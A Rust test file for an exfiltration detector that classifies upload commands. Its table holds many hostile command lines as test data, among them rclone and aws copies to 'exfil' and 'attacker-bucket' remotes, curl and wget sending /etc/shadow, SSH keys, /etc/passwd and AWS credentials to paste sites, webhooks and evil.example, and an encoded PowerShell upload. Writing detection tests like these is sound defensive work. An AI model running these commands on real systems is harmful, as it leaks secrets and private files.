//! Table of real-shaped command lines: positives (flag orders, quoting,
//! renamed images) and negatives (downloads, help, listings).

use outflow_analytics::cmdline::{from_argv, split_posix, split_windows};
use outflow_analytics::upload::{classify, UploadTool};

#[derive(Clone, Copy)]
enum Shell {
    Win,
    Posix,
}
use Shell::{Posix, Win};

struct Case {
    shell: Shell,
    cmd: &'static str,
    image: Option<&'static str>,
    hint: Option<&'static str>,
    /// (tool, action, destination, risk); None = must not fire.
    expect: Option<(UploadTool, &'static str, Option<&'static str>, u8)>,
}

const fn c(
    shell: Shell,
    cmd: &'static str,
    expect: Option<(UploadTool, &'static str, Option<&'static str>, u8)>,
) -> Case {
    Case {
        shell,
        cmd,
        image: None,
        hint: None,
        expect,
    }
}

const fn y(
    t: UploadTool,
    a: &'static str,
    d: &'static str,
    r: u8,
) -> Option<(UploadTool, &'static str, Option<&'static str>, u8)> {
    Some((t, a, Some(d), r))
}

use UploadTool::*;

fn cases() -> Vec<Case> {
    vec![
        // ---- rclone
        c(Win, r#""C:\Program Files\rclone\rclone.exe" copy "C:\Users\bob\Documents" mega:exfil -v --transfers 8"#, y(Rclone, "copy", "mega:exfil", 9)),
        c(Win, r#"rclone.exe --config C:\Temp\rc.conf -q sync C:\Finance remote:bucket/fin"#, y(Rclone, "sync", "remote:bucket/fin", 9)),
        c(Posix, "rclone --transfers 8 --multi-thread-streams 4 move /srv/data s3:loot --progress", y(Rclone, "move", "s3:loot", 9)),
        c(Posix, "rclone copyto ./db.sql.gz 'gdrive:backups/db.sql.gz' --no-check-certificate", y(Rclone, "copyto", "gdrive:backups/db.sql.gz", 9)),
        c(Win, r"RCLONE.EXE -vP copy \\fs01\share :s3,provider=AWS:stolen --config=x.conf", y(Rclone, "copy", ":s3,provider=AWS:stolen", 9)),
        Case { shell: Win, cmd: r"C:\Windows\Temp\svchost32.exe copy C:\HR mega:hr --transfers 16", image: Some(r"C:\Windows\Temp\svchost32.exe"), hint: Some("rclone"), expect: y(Rclone, "copy", "mega:hr", 9) },
        Case { shell: Win, cmd: r"upd.exe sync D:\src remote:x", image: Some(r"C:\ProgramData\upd.exe"), hint: None, expect: None },
        c(Win, r"rclone copy mega:exfil C:\restore", None),
        c(Posix, "rclone ls remote:bucket", None),
        c(Posix, "rclone version", None),
        c(Posix, "rclone config", None),
        c(Posix, "rclone copy --help", None),
        c(Win, r"rclone sync C:\a D:\b", None),
        // ---- aws
        c(Posix, "aws --profile exfil --region us-east-1 s3 cp /tmp/dump.tar.gz s3://attacker-bucket/dump.tar.gz", y(AwsCli, "cp", "s3://attacker-bucket/dump.tar.gz", 9)),
        c(Posix, "aws s3 sync /home/alice s3://bkt/alice --exclude '*.tmp' --only-show-errors", y(AwsCli, "sync", "s3://bkt/alice", 9)),
        c(Win, r#"aws.exe s3 mv "C:\Users\bob\Desktop\q3 results.xlsx" S3://b/q3.xlsx --endpoint-url https://s3.wasabisys.com"#, y(AwsCli, "mv", "S3://b/q3.xlsx", 9)),
        c(Posix, "python3 /usr/local/bin/aws s3 cp --recursive /data s3://x/data", y(AwsCli, "cp", "s3://x/data", 9)),
        c(Posix, "aws s3api put-object --bucket loot --key a.zip --body /tmp/a.zip", y(AwsCli, "put-object", "s3://loot/a.zip", 9)),
        c(Posix, "aws s3 cp s3://corp-bucket/report.pdf ./report.pdf", None),
        c(Posix, "aws s3 ls s3://corp-bucket", None),
        c(Posix, "aws --version", None),
        c(Posix, "aws s3 cp help", None),
        // ---- gsutil / azcopy / s3cmd
        c(Posix, "gsutil -m cp -r /srv/exports gs://drop-zone/exports", y(Gsutil, "cp", "gs://drop-zone/exports", 9)),
        c(Posix, "gsutil -o GSUtil:parallel_composite_upload_threshold=150M rsync -r -x '.*\\.log$' ./data gs://b/data", y(Gsutil, "rsync", "gs://b/data", 9)),
        c(Posix, "gsutil cp gs://bucket/file.txt ./file.txt", None),
        c(Posix, "gsutil ls gs://bucket", None),
        c(Win, r#"azcopy.exe copy "C:\Finance\*" "https://exfil.blob.core.windows.net/c?sv=2022-11-02&sig=abc" --recursive"#, y(Azcopy, "copy", "https://exfil.blob.core.windows.net/c", 9)),
        c(Posix, "azcopy sync --log-level ERROR /data https://acct.blob.core.windows.net/cont", y(Azcopy, "sync", "https://acct.blob.core.windows.net/cont", 9)),
        c(Posix, "azcopy copy 'https://acct.blob.core.windows.net/c/x.bin?sig=1' /tmp/x.bin", None),
        c(Posix, "s3cmd put --acl-public /tmp/keys.tar s3://bkt/keys.tar", y(S3cmd, "put", "s3://bkt/keys.tar", 9)),
        c(Posix, "s3cmd -c /root/.s3cfg sync /var/www s3://bkt/www/", y(S3cmd, "sync", "s3://bkt/www/", 9)),
        c(Posix, "s3cmd get s3://bkt/keys.tar /tmp/keys.tar", None),
        // ---- curl (incl. the reference analytic's literal-string misses)
        c(Posix, "curl -s -T /tmp/passwd.txt https://transfer.sh/passwd.txt", y(Curl, "upload", "https://transfer.sh/passwd.txt", 8)),
        c(Posix, "curl -sST /etc/shadow ftp://10.0.0.5/drop/", y(Curl, "upload", "ftp://10.0.0.5/drop/", 8)),
        c(Win, r#"curl.exe --upload-file="C:\Users\bob\loot.zip" https://paste.example/u"#, y(Curl, "upload", "https://paste.example/u", 8)),
        c(Win, r#"curl.exe –T C:\a.7z https://x.example/put"#, y(Curl, "upload", "https://x.example/put", 8)),
        c(Posix, "curl -X PUT --upload-file db.sql https://bucket.s3.amazonaws.com/db.sql", y(Curl, "put", "https://bucket.s3.amazonaws.com/db.sql", 8)),
        c(Posix, "curl -F 'file=@/home/u/.ssh/id_rsa' https://discord.com/api/webhooks/1/x", y(Curl, "post", "https://discord.com/api/webhooks/1/x", 8)),
        c(Posix, "curl --form upload=@secrets.txt;type=text/plain --url https://file.io", y(Curl, "post", "https://file.io", 8)),
        c(Posix, "curl -X POST -H 'Content-Type: application/octet-stream' --data-binary @/tmp/x.bin https://webhook.site/abc", y(Curl, "post", "https://webhook.site/abc", 8)),
        c(Posix, "curl -d @data.json https://api.example/ingest", y(Curl, "post", "https://api.example/ingest", 8)),
        c(Posix, "curl -X POST -d 'content=hello' https://hooks.slack.com/services/T/B/C", y(Curl, "post", "https://hooks.slack.com/services/T/B/C", 5)),
        c(Posix, "curl -o /tmp/x.sh https://example.com/x.sh", None),
        c(Posix, "curl -fsSL https://get.docker.com -O", None),
        c(Posix, "curl -H 'Authorization: Bearer t' -A agent https://api.example/v1/items", None),
        c(Win, "curl.exe --help", None),
        c(Posix, "curl -V", None),
        // ---- wget
        c(Posix, "wget -q --post-file=/etc/passwd http://evil.example/collect", y(Wget, "post", "http://evil.example/collect", 8)),
        c(Posix, "wget --post-file /tmp/a.tgz -O- https://x.example/u", y(Wget, "post", "https://x.example/u", 8)),
        c(Posix, "wget --method=PUT --body-file=/tmp/d.zip https://b.example/d.zip", y(Wget, "put", "https://b.example/d.zip", 8)),
        c(Posix, "wget --post-data 'u=a&p=b' http://x.example/login", y(Wget, "post", "http://x.example/login", 5)),
        c(Posix, "wget https://example.com/file.tar.gz", None),
        c(Posix, "wget -qO- https://example.com/install.sh", None),
        c(Posix, "wget --body-file=/tmp/x https://x.example/", None),
        // ---- PowerShell
        c(Win, r#"powershell.exe -NoP -NonI -W Hidden -c "Invoke-WebRequest -Uri https://x.example/u -Method Post -InFile C:\Temp\a.zip""#, y(PowerShell, "post", "https://x.example/u", 8)),
        c(Win, r#"pwsh -Command "irm https://h.example/api -Method PUT -Body (Get-Content C:\s.txt -Raw)""#, y(PowerShell, "put", "https://h.example/api", 8)),
        c(Win, r#"powershell "(New-Object System.Net.WebClient).UploadFile('https://up.example/x', 'C:\Users\bob\q.pdf')""#, y(PowerShell, "upload-file", "https://up.example/x", 8)),
        c(Win, "powershell.exe -ep bypass -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwB1ACAALQBNAGUAdABoAG8AZAAgAFAAbwBzAHQAIAAtAEkAbgBGAGkAbABlACAAQwA6AFwAYQAuAHoAaQBwAA==", y(PowerShell, "post", "https://x.example/u", 8)),
        c(Win, r#"powershell -c "iwr https://x.example/a.exe -OutFile $env:TEMP\a.exe""#, None),
        c(Win, r#"powershell -c "Invoke-RestMethod https://api.example/items""#, None),
        c(Win, r#"powershell.exe -File C:\scripts\backup.ps1"#, None),
        // ---- bitsadmin / certreq
        c(Win, r"bitsadmin /transfer job1 /upload /priority high https://x.example/u C:\data\a.zip", y(Bitsadmin, "upload", "https://x.example/u", 8)),
        c(Win, r"bitsadmin.exe /transfer dl /download /priority normal https://x.example/a.exe C:\Temp\a.exe", None),
        c(Win, r"CertReq.exe -Post -config https://x.example/ C:\Windows\win.ini out.txt", y(Certreq, "post", "https://x.example/", 8)),
        c(Win, r#"certreq -submit -config "CA01\Corp-CA" req.csr"#, None),
        // ---- unrelated
        c(Win, r"notepad.exe C:\notes.txt", None),
        c(Posix, "", None),
    ]
}

fn argv(shell: Shell, cmd: &str) -> Vec<String> {
    match shell {
        Win => split_windows(cmd),
        Posix => split_posix(cmd),
    }
}

#[test]
fn table() {
    let cases = cases();
    assert!(cases.len() >= 40);
    let mut failures = Vec::new();
    for case in &cases {
        let got = classify(&argv(case.shell, case.cmd), case.image, case.hint);
        let got_key = got
            .as_ref()
            .map(|g| (g.tool, g.action.as_str(), g.destination.as_deref(), g.risk));
        if got_key != case.expect {
            failures.push(format!("{}\n   got {:?}", case.cmd, got));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn sources() {
    let s = |shell, cmd| classify(&argv(shell, cmd), None, None).map(|i| i.sources);
    assert_eq!(
        s(Posix, "curl -s -T /tmp/passwd.txt https://t/x"),
        Some(vec!["/tmp/passwd.txt".into()])
    );
    assert_eq!(
        s(Posix, "gsutil cp a b gs://x/"),
        Some(vec!["a".into(), "b".into()])
    );
    assert_eq!(
        s(
            Win,
            r"bitsadmin /transfer j /upload https://a/1 C:\1 https://a/2 C:\2"
        ),
        Some(vec![r"C:\1".into(), r"C:\2".into()])
    );
    assert_eq!(
        s(Posix, "wget --post-file=/etc/passwd http://e/c"),
        Some(vec!["/etc/passwd".into()])
    );
}

#[test]
fn auditd_argv() {
    let a = from_argv(&[
        "/usr/bin/curl",
        "-sT",
        "/root/.aws/credentials",
        "https://x/u",
    ]);
    let inv = classify(&a, Some("/usr/bin/curl"), None).expect("upload");
    assert_eq!(inv.tool, Curl);
    assert_eq!(inv.sources, ["/root/.aws/credentials"]);
}

#[test]
fn bounded_on_hostile_input() {
    let mut argv = vec!["curl".to_string()];
    argv.extend(std::iter::repeat_n("-sssss".to_string(), 100_000));
    argv.push("-T".into());
    argv.push("f".into());
    // Arguments past MAX_ARGS are not looked at.
    assert!(classify(&argv, None, None).is_none());
    let long = format!("powershell -c \"{}\"", "(".repeat(200_000));
    assert!(classify(&split_windows(&long), None, None).is_none());
    let enc = format!("powershell -enc {}", "QUFB".repeat(100_000));
    assert!(classify(&split_windows(&enc), None, None).is_none());
}
